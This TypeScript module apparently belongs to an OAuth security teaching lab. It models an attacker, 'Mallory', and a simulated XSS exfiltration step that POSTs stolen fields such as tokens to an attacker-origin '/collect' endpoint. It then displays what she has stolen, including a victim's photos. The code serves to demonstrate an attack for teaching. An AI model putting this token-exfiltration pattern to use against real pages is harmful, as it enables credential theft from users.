import { ATTACKER_ORIGIN } from '../../../protocol/demo-world'
import type { RoleId } from '../../../protocol/roles'
import type { ApiResult } from '../client/resource'
import type { FlowLab } from '../flow-lab'
import type { ScreenView } from '../flow-module'

/** The attacker as every attack scenario casts her (RFC 9700 §3). */
export const MALLORY = { name: 'Mallory', detail: 'mallory.example' } as const

/** Where her injected scripts send what they find. */
export const COLLECT_URL = `${ATTACKER_ORIGIN}/collect`

/** The tail of a long value, enough to tell tokens apart: "…x8Qv2TbZ1kPw". */
export const tail = (value: string | undefined) => (value ? `…${value.slice(-12)}` : '(none)')

/**
 * A script Mallory slipped into the client's page (cross-site scripting) sends what it found there
 * to her site, as one form POST from the page (browser-based apps BCP §5.1.1, single-execution
 * token theft). Recorded as the client's: it runs in the client's page.
 */
export async function sendToMallory(
  lab: FlowLab,
  fields: Readonly<Record<string, string>>,
  options: { label: string; from?: RoleId },
): Promise<number> {
  const send = lab.wire.fetchAs(options.from ?? 'client', 'back', options.label)
  const response = await send(COLLECT_URL, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams(fields).toString(),
  })
  return response.status
}

/** What Mallory holds, one line each, as her own screen shows it. */
export interface Holding {
  label: string
  value: string
}

interface PhotoList {
  owner?: unknown
  photos?: { title?: unknown; url?: unknown }[]
}

/** The photos an API answer carries, as pictures with their titles for alt text. */
export function photosIn(api: ApiResult | undefined): { src: string; alt: string }[] {
  if (api?.status !== 200) return []
  const photos = (api.body as PhotoList | null)?.photos
  return (Array.isArray(photos) ? photos : []).flatMap((photo) =>
    typeof photo.url === 'string' && photo.url.startsWith('data:image/')
      ? [{ src: photo.url, alt: String(photo.title ?? 'A photo') }]
      : [],
  )
}

/** Mallory's own screen: what she holds so far, and any of Alice's photos she got. */
export function malloryScreen(holdings: readonly Holding[], api?: ApiResult): ScreenView {
  const images = photosIn(api)
  return {
    heading: holdings.length === 0 && images.length === 0 ? 'Nothing yet' : 'Mallory holds',
    lines: holdings.map(({ label, value }) => ({ label, value })),
    ...(images.length > 0 ? { images } : {}),
  }
}
